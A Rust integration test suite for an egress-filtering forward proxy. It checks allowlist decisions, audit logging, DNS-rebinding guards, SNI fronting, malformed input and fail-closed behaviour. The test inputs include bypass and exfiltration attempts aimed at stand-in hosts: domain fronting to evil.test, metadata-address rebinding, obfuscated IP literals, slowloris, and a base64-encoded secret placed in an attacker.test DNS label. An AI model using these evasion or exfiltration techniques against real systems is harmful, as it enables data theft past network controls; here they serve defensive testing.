//! Explicit mode against the real binary: curl through CONNECT to a TLS
//! server whose certificate the test makes, plain-HTTP keep-alive, denies
//! that never reach the upstream, SNI fronting, bad input.

mod common;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::time::{Duration, Instant};

use common::*;
use secureops_proxy::peek::build_client_hello;

#[test]
fn curl_connect_to_tls_upstream_is_allowed_and_audited_once() {
    let (_d, cert, key) = make_cert(&["allowed.test"]);
    let tls = TlsServer::start(None, "127.0.0.1:0", &cert, &key);
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
    ]);
    let url = format!("https://allowed.test:{}/", tls.addr.port());
    let (code, out, err) = curl(&[
        "--proxy",
        &format!("http://{}", proxy.addr),
        "--cacert",
        cert.to_str().unwrap(),
        &url,
    ]);
    assert_eq!(code, 0, "curl failed: {err}");
    assert!(out.contains("s_server"), "unexpected body: {out}");
    let recs = proxy.settled_audit(1);
    let r = &recs[0];
    assert_eq!(r["decision"], "allow");
    assert_eq!(r["host"], "allowed.test");
    assert_eq!(r["host_source"], "HOST_SOURCE_CONNECT");
    assert_eq!(r["dialled_ip"], "127.0.0.1");
    assert_eq!(r["port"], tls.addr.port());
    assert_eq!(r["pep_kind"], "proxy");
}

#[test]
fn denied_host_gets_403_and_upstream_sees_nothing() {
    let up = CountingUpstream::start("127.0.0.1:0");
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "denied.test=127.0.0.1",
        "--resolve",
        "allowed.test=127.0.0.1",
    ]);
    let target = format!("denied.test:{}", up.addr.port());
    let (code, _out, err) = curl(&[
        "--proxy",
        &format!("http://{}", proxy.addr),
        "-k",
        &format!("https://{target}/"),
    ]);
    assert_ne!(code, 0);
    assert!(err.contains("403"), "curl stderr: {err}");

    let (mut s, head) = connect_via(proxy.addr, &target);
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(
        head.contains("X-SecureOps-Decision: deny; reason=not_in_allowlist; retry=no"),
        "{head}"
    );
    let (body, _) = read_to_end_or_reset(&mut s);
    let body: serde_json::Value = serde_json::from_slice(&body).expect("JSON body");
    assert_eq!(body["retry"], false);
    assert_eq!(body["reason"], "not_in_allowlist");

    let recs = proxy.settled_audit(2);
    for r in &recs {
        assert_eq!(r["decision"], "deny");
        assert_eq!(r["host"], "denied.test");
        assert_eq!(r["dialled_ip"], "");
    }
    // Attribution: the raw attempt came from this very test process.
    assert_eq!(recs[1]["pid"], std::process::id(), "{:#?}", recs[1]);
    assert!(
        recs[1]["process_start_time"]
            .as_u64()
            .is_some_and(|t| t > 0)
    );
    assert_eq!(up.conns(), 0, "upstream was contacted");
    assert_eq!(up.bytes(), 0);
}

/// Standalone mode keeps the DNS-rebinding guard: an allowed wildcard name
/// answered with a loopback, private or metadata address is refused before
/// anything is dialled, unless `--resolved-ip-allow` covers the address.
#[test]
fn standalone_allowed_name_resolving_to_a_special_address_is_refused() {
    let up = CountingUpstream::start("127.0.0.1:0");
    let proxy = Proxy::spawn(&[
        "--allow",
        "*.allowed.test",
        "--resolve",
        "loop.allowed.test=127.0.0.1",
        "--resolve",
        "meta.allowed.test=169.254.169.254",
        "--resolve",
        "mapped.allowed.test=::ffff:10.0.0.1",
    ]);
    for host in ["loop", "meta", "mapped"] {
        let (mut s, head) = connect_via(
            proxy.addr,
            &format!("{host}.allowed.test:{}", up.addr.port()),
        );
        assert!(head.starts_with("HTTP/1.1 403"), "{host}: {head}");
        assert!(head.contains("reason=dns_rebinding"), "{host}: {head}");
        let _ = read_to_end_or_reset(&mut s);
    }
    let recs = proxy.settled_audit(3);
    for r in &recs {
        assert_eq!(r["decision"], "deny");
        assert_eq!(r["reason"], "dns_rebinding", "{r:#?}");
        assert_eq!(r["dialled_ip"], "");
    }
    assert_eq!(up.conns(), 0, "upstream was contacted");

    // The same name is reachable once its range is allowed.
    let proxy = Proxy::spawn(&[
        "--allow",
        "*.allowed.test",
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--resolve",
        "loop.allowed.test=127.0.0.1",
    ]);
    let (_s, head) = connect_via(proxy.addr, &format!("loop.allowed.test:{}", up.addr.port()));
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
}

#[test]
fn sni_different_from_connect_host_is_refused_before_dialing() {
    let up = CountingUpstream::start("127.0.0.1:0");
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
    ]);
    let target = format!("allowed.test:{}", up.addr.port());

    // Raw client: CONNECT allowed.test, then a ClientHello for evil.test.
    let (mut s, head) = connect_via(proxy.addr, &target);
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    s.write_all(&build_client_hello(Some("evil.test"), false, 1))
        .unwrap();
    let (data, _reset) = read_to_end_or_reset(&mut s);
    assert!(data.is_empty(), "got bytes through a refused tunnel");

    // curl: --connect-to makes curl CONNECT to allowed.test while sending
    // SNI evil.test (domain fronting).
    let (code, _o, _e) = curl(&[
        "--proxy",
        &format!("http://{}", proxy.addr),
        "-k",
        "--connect-to",
        &format!("evil.test:{p}:allowed.test:{p}", p = up.addr.port()),
        &format!("https://evil.test:{}/", up.addr.port()),
    ]);
    assert_ne!(code, 0, "fronted request must fail");

    // Plain HTTP inside the tunnel naming another host: same check.
    let (mut s, head) = connect_via(proxy.addr, &target);
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    s.write_all(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
        .unwrap();
    assert!(read_to_end_or_reset(&mut s).0.is_empty());

    let recs = proxy.settled_audit(3);
    assert_eq!(recs[2]["reason"], "host_mismatch");
    for r in &recs[..2] {
        assert_eq!(r["decision"], "deny", "{r}");
        assert_eq!(r["reason"], "sni_mismatch", "{r}");
        assert_eq!(r["host"], "allowed.test");
        assert_eq!(r["dialled_ip"], "");
    }
    assert_eq!(up.conns(), 0, "upstream was contacted");
    assert_eq!(up.bytes(), 0);
}

#[test]
fn ech_without_outer_name_and_truncated_hello_are_refused() {
    let up = CountingUpstream::start("127.0.0.1:0");
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
        "--peek-timeout-ms",
        "300",
    ]);
    let target = format!("allowed.test:{}", up.addr.port());

    let (mut s, head) = connect_via(proxy.addr, &target);
    assert!(head.starts_with("HTTP/1.1 200"));
    s.write_all(&build_client_hello(None, true, 1)).unwrap();
    assert!(read_to_end_or_reset(&mut s).0.is_empty());

    let ch = build_client_hello(Some("allowed.test"), false, 1);
    let (mut s, head) = connect_via(proxy.addr, &target);
    assert!(head.starts_with("HTTP/1.1 200"));
    s.write_all(&ch[..ch.len() / 2]).unwrap();
    let t0 = Instant::now();
    assert!(read_to_end_or_reset(&mut s).0.is_empty());
    assert!(
        t0.elapsed() < Duration::from_secs(3),
        "peek window not bounded"
    );

    // A ClientHello fragmented over 3 records with the right SNI is fine
    // (and its bytes reach the upstream intact).
    let ch = build_client_hello(Some("allowed.test"), true, 3);
    let (mut s, head) = connect_via(proxy.addr, &target);
    assert!(head.starts_with("HTTP/1.1 200"));
    s.write_all(&ch).unwrap();
    let deadline = Instant::now() + Duration::from_secs(5);
    while up.bytes() < ch.len() as u64 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(up.conns(), 1);
    assert_eq!(up.bytes(), ch.len() as u64);

    let recs = proxy.settled_audit(3);
    assert_eq!(recs[0]["reason"], "ech");
    assert_eq!(recs[1]["reason"], "truncated_client_hello");
    assert_eq!(recs[2]["decision"], "allow");
    assert_eq!(recs[2]["detail"], "ech_outer_allowed");
}

#[test]
fn server_first_protocol_is_dialled_when_the_window_ends() {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        if let Ok((mut s, _)) = l.accept() {
            let _ = s.write_all(b"SSH-2.0-banner\r\n");
            let mut b = [0u8; 16];
            let _ = s.read(&mut b);
        }
    });
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "ssh.test",
        "--resolve",
        "ssh.test=127.0.0.1",
        "--peek-timeout-ms",
        "200",
    ]);
    let (mut s, head) = connect_via(proxy.addr, &format!("ssh.test:{port}"));
    assert!(head.starts_with("HTTP/1.1 200"));
    let mut banner = [0u8; 16];
    s.read_exact(&mut banner).unwrap();
    assert_eq!(&banner, b"SSH-2.0-banner\r\n");
    let recs = proxy.settled_audit(1);
    assert_eq!(recs[0]["decision"], "allow");
}

#[test]
fn plain_http_keep_alive_decides_and_audits_every_request() {
    let up = CountingUpstream::start_http("127.0.0.1:0");
    let port = up.addr.port();
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
        "--resolve",
        "denied.test=127.0.0.1",
    ]);
    // curl: two URLs on one connection.
    let (code, out, err) = curl(&[
        "-v",
        "--proxy",
        &format!("http://{}", proxy.addr),
        &format!("http://allowed.test:{port}/a"),
        &format!("http://allowed.test:{port}/b"),
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("upstream saw: GET /a HTTP/1.1"), "{out}");
    assert!(out.contains("upstream saw: GET /b HTTP/1.1"), "{out}");
    assert!(
        err.contains("Re-using existing") || err.contains("Reusing existing"),
        "curl did not reuse the proxy connection: {err}"
    );
    let recs = proxy.settled_audit(2);
    for r in &recs {
        assert_eq!(r["decision"], "allow");
        assert_eq!(r["host_source"], "HOST_SOURCE_HTTP_HOST");
        assert_eq!(r["dialled_ip"], "127.0.0.1");
    }

    // Raw keep-alive: allowed, then denied, then allowed on ONE connection.
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    for (host, expect) in [
        ("allowed.test", "200"),
        ("denied.test", "403"),
        ("allowed.test", "200"),
    ] {
        exchange(
            &mut s,
            &format!("GET http://{host}:{port}/x HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n"),
            expect,
        );
    }
    let recs = proxy.settled_audit(5);
    assert_eq!(recs[3]["decision"], "deny");
    assert_eq!(recs[3]["host"], "denied.test");
    // curl's connection + the raw one; the denied request never dialled.
    assert_eq!(up.conns(), 2);
}

#[test]
fn host_mismatch_userinfo_and_scheme_are_denied() {
    let up = CountingUpstream::start_http("127.0.0.1:0");
    let port = up.addr.port();
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
    ]);
    let cases = [
        (
            format!("GET http://allowed.test:{port}/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
            "host_mismatch",
        ),
        (
            format!(
                "GET http://allowed.test:{port}/ HTTP/1.1\r\nHost: allowed.test:{port}\r\nHost: evil.test\r\n\r\n"
            ),
            "host_mismatch",
        ),
        (
            format!(
                "GET http://user:pw@allowed.test:{port}/ HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n"
            ),
            "userinfo",
        ),
        (
            format!("CONNECT user@allowed.test:{port} HTTP/1.1\r\n\r\n"),
            "userinfo",
        ),
        (
            format!("GET https://allowed.test:{port}/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
            "unsupported_scheme",
        ),
        (
            "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n".to_string(),
            "not_absolute_form",
        ),
    ];
    for (req, _) in &cases {
        let mut s = TcpStream::connect(proxy.addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        s.write_all(req.as_bytes()).unwrap();
        let head = read_head(&mut s);
        assert!(
            head.starts_with("HTTP/1.1 403") || head.starts_with("HTTP/1.1 400"),
            "{req:?} -> {head}"
        );
        assert!(
            head.to_ascii_lowercase()
                .contains("x-secureops-decision: deny"),
            "{head}"
        );
    }
    let recs = proxy.settled_audit(cases.len());
    for (r, (req, reason)) in recs.iter().zip(&cases) {
        assert_eq!(r["reason"], *reason, "{req:?}");
        assert_eq!(r["decision"], "deny");
    }
    assert_eq!(up.conns(), 0);
}

#[test]
fn bad_input_is_denied_once_and_never_tunnels() {
    let up = CountingUpstream::start("127.0.0.1:0");
    let port = up.addr.port();
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
        "--header-timeout-ms",
        "500",
        "--max-header-bytes",
        "4096",
    ]);
    let mut inputs: Vec<Vec<u8>> = vec![
        b"\x00\x01\x02garbage\r\n\r\n".to_vec(),
        build_client_hello(Some("allowed.test"), false, 1),
        format!(
            "GET http://allowed.test:{port}/ HTTP/1.1\r\nX: {}\r\n\r\n",
            "a".repeat(8000)
        )
        .into_bytes(),
        b"CONNECT allowed.test HTTP/1.1\r\n\r\n".to_vec(),
    ];
    // Invalid authorities and every IP-literal spelling (IP literals are
    // never resolved; the allowlist has no cidr rule, so all are denied).
    for a in [
        "allowed.test:0".to_string(),
        "allowed.test:99999".to_string(),
        format!("allowed.test:{port}x"),
        format!("[::1:{port}"),
        format!("::1:{port}"),
        format!("[fe80::1%25lo]:{port}"),
        format!("%61llowed.test:{port}"),
        format!("allowed..test:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
        format!("[0:0:0:0:0:0:0:1]:{port}"),
        format!("[::ffff:7f00:1]:{port}"),
        format!("127.0.0.1:{port}"),
        format!("127.1:{port}"),
        format!("2130706433:{port}"),
        format!("0x7f000001:{port}"),
        format!("0177.0.0.1:{port}"),
        format!("0x7f.1:{port}"),
    ] {
        inputs.push(format!("CONNECT {a} HTTP/1.1\r\nHost: {a}\r\n\r\n").into_bytes());
    }
    for input in &inputs {
        let mut s = TcpStream::connect(proxy.addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
        let _ = s.write_all(input);
        let head = read_head(&mut s);
        assert!(
            head.starts_with("HTTP/1.1 4"),
            "{:?} -> {head:?}",
            String::from_utf8_lossy(&input[..input.len().min(60)])
        );
        assert!(head.contains("X-SecureOps-Decision: deny"), "{head}");
    }
    // Slowloris: a head that never completes is cut after the header timeout.
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    s.write_all(format!("CONNECT allowed.test:{port} HTTP/1.1\r\nX-Slow: ").as_bytes())
        .unwrap();
    let t0 = Instant::now();
    let head = read_head(&mut s);
    assert!(head.starts_with("HTTP/1.1 408"), "{head}");
    assert!(t0.elapsed() < Duration::from_secs(3));

    let recs = proxy.settled_audit(inputs.len() + 1);
    assert!(recs.iter().all(|r| r["decision"] == "deny"), "{recs:#?}");
    assert_eq!(recs[0]["reason"], "malformed_request");
    assert_eq!(recs[1]["reason"], "malformed_request");
    assert_eq!(recs[2]["reason"], "header_too_large");
    assert_eq!(recs[3]["reason"], "invalid_authority");
    assert_eq!(recs.last().unwrap()["reason"], "header_timeout");
    // IP literals reached the PDP as IPs, never as resolved names.
    for r in &recs[12..inputs.len()] {
        assert_eq!(r["reason"], "not_in_allowlist", "{r}");
    }
    assert_eq!(up.conns(), 0, "a bad input reached the upstream");

    // The proxy survived all of it.
    let (_s, head) = connect_via(proxy.addr, &format!("allowed.test:{port}"));
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
}

#[test]
fn full_spool_refuses_connect_with_403_before_the_200() {
    let up = CountingUpstream::start("127.0.0.1:0");
    let spool = tempfile::tempdir().unwrap();
    // Nothing acks (no --audit): the spool is full after one record.
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
        "--spool-dir",
        spool.path().to_str().unwrap(),
        "--spool-max-records",
        "1",
    ]);
    let port = up.addr.port();
    let (mut s, head) = connect_via(proxy.addr, &format!("allowed.test:{port}"));
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    s.write_all(&build_client_hello(Some("allowed.test"), false, 1))
        .unwrap();
    let t = Instant::now();
    while up.conns() < 1 && t.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert_eq!(up.conns(), 1, "the first, allowed tunnel was dialled");
    drop(s);
    // Second attempt: refused up front, with the reason, not 200-then-RST.
    let (_s, head) = connect_via(proxy.addr, &format!("allowed.test:{port}"));
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(
        head.to_ascii_lowercase()
            .contains("reason=fail_closed:audit_spool"),
        "{head}"
    );
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(up.conns(), 1, "the refused attempt must not be dialled");
}

#[test]
fn unwritable_audit_sink_denies_everything() {
    let up = CountingUpstream::start("127.0.0.1:0");
    // /dev/full opens fine and fails every write with ENOSPC.
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
        "--audit-log",
        "/dev/full",
    ]);
    let port = up.addr.port();
    // Plain HTTP: the record is due before the 403/forward decision.
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    write!(
        s,
        "GET http://allowed.test:{port}/ HTTP/1.1\r\nHost: allowed.test:{port}\r\n\r\n"
    )
    .unwrap();
    let head = read_head(&mut s);
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(
        head.to_ascii_lowercase()
            .contains("reason=fail_closed:audit_spool"),
        "{head}"
    );
    // CONNECT: the record is written after the ClientHello peek; when it
    // fails the tunnel is reset and nothing is dialled.
    let (mut s, head) = connect_via(proxy.addr, &format!("allowed.test:{port}"));
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    s.write_all(&build_client_hello(Some("allowed.test"), false, 1))
        .unwrap();
    assert!(read_to_end_or_reset(&mut s).0.is_empty());
    std::thread::sleep(Duration::from_millis(100));
    assert_eq!(up.conns(), 0);
}

#[test]
fn spool_dir_receives_the_record_before_the_tunnel() {
    // Both durability policies: written before the dial either way;
    // `always` also waits for the fdatasync.
    for policy in ["interval:5ms", "always"] {
        let up = CountingUpstream::start("127.0.0.1:0");
        let spool = tempfile::tempdir().unwrap();
        let proxy = Proxy::spawn(&[
            "--resolved-ip-allow",
            "127.0.0.0/8",
            "--allow",
            "allowed.test",
            "--resolve",
            "allowed.test=127.0.0.1",
            "--spool-dir",
            spool.path().to_str().unwrap(),
            "--spool-sync",
            policy,
        ]);
        let (_s, head) = connect_via(proxy.addr, &format!("allowed.test:{}", up.addr.port()));
        assert!(head.starts_with("HTTP/1.1 200"), "{policy}: {head}");
        let recs = proxy.settled_audit(1);
        assert_eq!(recs[0]["decision"], "allow");
        let seg_bytes: u64 = std::fs::read_dir(spool.path())
            .unwrap()
            .filter_map(|e| e.ok())
            .filter(|e| e.file_name().to_string_lossy().starts_with("seg-"))
            .map(|e| e.metadata().map(|m| m.len()).unwrap_or(0))
            .sum();
        assert!(seg_bytes > 0, "{policy}: nothing spooled");
    }
    // A bad policy is a start-up error that names the flag, not a default.
    let out = std::process::Command::new(BIN)
        .args([
            "--resolved-ip-allow",
            "127.0.0.0/8",
            "--allow",
            "a.test",
            "--spool-dir",
            "/tmp/x",
            "--spool-sync",
            "never",
        ])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--spool-sync") && err.contains("always"),
        "{err}"
    );
}

#[test]
fn pdp_down_or_hanging_denies_promptly() {
    let up = CountingUpstream::start("127.0.0.1:0");
    // Down: a port with nothing listening.
    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
    let closed_port = closed.local_addr().unwrap().port();
    drop(closed);
    // Hanging: accepts TCP, never speaks HTTP/2.
    let hang = TcpListener::bind("127.0.0.1:0").unwrap();
    let hang_port = hang.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for s in hang.incoming().flatten() {
            held.push(s);
        }
    });
    for pdp_port in [closed_port, hang_port] {
        let proxy = Proxy::spawn(&[
            "--pdp",
            &format!("http://127.0.0.1:{pdp_port}"),
            "--pdp-timeout-ms",
            "100",
            "--resolve",
            "allowed.test=127.0.0.1",
        ]);
        let t0 = Instant::now();
        let (_s, head) = connect_via(proxy.addr, &format!("allowed.test:{}", up.addr.port()));
        let took = t0.elapsed();
        assert!(head.starts_with("HTTP/1.1 403"), "{head}");
        assert!(head.contains("reason=fail_closed:"), "{head}");
        assert!(took < Duration::from_secs(1), "deny took {took:?}");
        let recs = proxy.settled_audit(1);
        assert!(
            recs[0]["fail_closed_cause"]
                .as_str()
                .is_some_and(|c| !c.is_empty()),
            "{recs:#?}"
        );
    }
    assert_eq!(up.conns(), 0);
}

#[test]
fn metrics_export_the_enforcement_tier() {
    let proxy = Proxy::spawn(&[
        "--metrics-listen",
        "127.0.0.1:0",
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
    ]);
    let m = proxy.metrics.expect("metrics addr");
    let (code, out, err) = curl(&[&format!("http://{m}/metrics")]);
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("secureops_proxy_enforcement_tier{tier=\"proxy_only\"} 1"),
        "{out}"
    );
}

#[test]
fn sigterm_stops_accepting_and_exits_within_the_grace_period() {
    let up = CountingUpstream::start("127.0.0.1:0");
    let mut proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8",
        "--allow",
        "allowed.test",
        "--resolve",
        "allowed.test=127.0.0.1",
        "--shutdown-grace-ms",
        "500",
    ]);
    // An open tunnel and a half-sent request head are in flight.
    let (_tunnel, head) = connect_via(proxy.addr, &format!("allowed.test:{}", up.addr.port()));
    assert!(head.starts_with("HTTP/1.1 200"));
    let mut half = TcpStream::connect(proxy.addr).unwrap();
    half.write_all(b"CONNECT allowed.test:443 HTTP/1.1\r\n")
        .unwrap();
    std::thread::sleep(Duration::from_millis(100));
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(proxy.pid() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .unwrap();
    let st = proxy.wait_exit(Duration::from_secs(5));
    assert!(st.is_some_and(|s| s.success()), "exit status {st:?}");
    assert!(TcpStream::connect(proxy.addr).is_err(), "still accepting");
}

/// A refused name never reaches DNS: looking it up would hand the name (and
/// whatever a prompt injection encoded into its labels) to the zone's
/// servers even though the connection is then denied. The allowed name
/// proves the DNS server is really in the path.
#[test]
fn denied_name_is_never_looked_up_in_dns() {
    let dns = counting_dns();
    let up = CountingUpstream::start("127.0.0.1:0");
    let server = dns.addr.to_string();
    // Also runs the single-threaded runtime (what the proxy picks on one core).
    // The fake DNS answers A with 127.0.0.1 and AAAA with 2001:db8::1: both
    // special-purpose, both named for the rebinding guard.
    let proxy = Proxy::spawn(&[
        "--resolved-ip-allow",
        "127.0.0.0/8,2001:db8::/32",
        "--allow",
        "allowed.test",
        "--dns-server",
        &server,
        "--metrics-listen",
        "127.0.0.1:0",
        "--worker-threads",
        "1",
    ]);
    let port = up.addr.port();

    let exfil = format!("c2VjcmV0LWtleQ.attacker.test:{port}");
    let (_s, head) = connect_via(proxy.addr, &exfil);
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");
    assert!(head.contains("reason=not_in_allowlist"), "{head}");
    // Plain HTTP with a denied absolute URI takes the same path.
    let mut s = TcpStream::connect(proxy.addr).unwrap();
    s.write_all(b"GET http://plain.attacker.test/x HTTP/1.1\r\nHost: plain.attacker.test\r\n\r\n")
        .unwrap();
    let head = read_head(&mut s);
    assert!(head.starts_with("HTTP/1.1 403"), "{head}");

    let (mut ok, head) = connect_via(proxy.addr, &format!("allowed.test:{port}"));
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    ok.write_all(b"ping").unwrap();
    drop(ok);

    let recs = proxy.settled_audit(3);
    let denied: Vec<_> = recs.iter().filter(|r| r["decision"] == "deny").collect();
    assert_eq!(denied.len(), 2, "{recs:#?}");
    for r in denied {
        assert_eq!(r["reason"], "not_in_allowlist", "{r:#?}");
        assert_eq!(r["dialled_ip"], "");
    }
    let asked = dns.asked();
    assert!(
        asked.iter().all(|n| n == "allowed.test"),
        "a denied name reached DNS: {asked:?}"
    );
    assert!(!asked.is_empty(), "the allowed name was not looked up");
    let m = proxy.metrics.expect("metrics addr");
    let (_, m, _) = curl(&[&format!("http://{m}/metrics")]);
    assert!(
        m.contains("secureops_proxy_refused_before_lookup_total 2"),
        "{m}"
    );
}
